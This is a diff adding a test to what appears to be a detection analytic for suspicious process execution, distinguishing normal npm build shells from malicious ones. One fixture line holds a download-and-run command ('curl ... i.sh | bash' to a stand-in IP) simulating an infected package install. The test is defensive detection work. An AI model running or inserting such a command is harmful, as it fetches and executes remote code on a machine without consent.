@@ -28,6 +28,25 @@ describe('suspicious execution', () => {
     );
   });
 
+  it('lets build tools start shells, but not what downloads and runs', async () => {
+    const shell = (parent: string, command: string) =>
+      event('process', {
+        ...shellOfJava,
+        process_parent_executable: '/usr/bin/node',
+        process_parent_name: 'node',
+        process_parent_command_line: parent,
+        process_command_line: command,
+      });
+    const build = 'sh -c tsc && vitest run';
+    expect(await findingsOf(analytic, [shell('node --no-warnings /usr/bin/npm run test', build)])).toEqual([]);
+    expect(await findingsOf(analytic, [shell('node /usr/lib/node_modules/npm/bin/npm-cli.js ci', build)])).toEqual([]);
+    expect(await findingsOf(analytic, [shell('node /srv/shop/server.js npm', build)])).toMatchObject([
+      { severity: 'high' },
+    ]);
+    const infected = shell('node /usr/bin/npm install left-pad', 'sh -c curl -s http://203.0.113.66/i.sh | bash');
+    expect(await findingsOf(analytic, [infected])).toMatchObject([{ severity: 'high' }]);
+  });
+
   it('weighs less what the same parent does on several days', async () => {
     const command = 'sh -c /opt/ci/step.sh';
     const days = [0, 1, 2, 3].map((day) =>
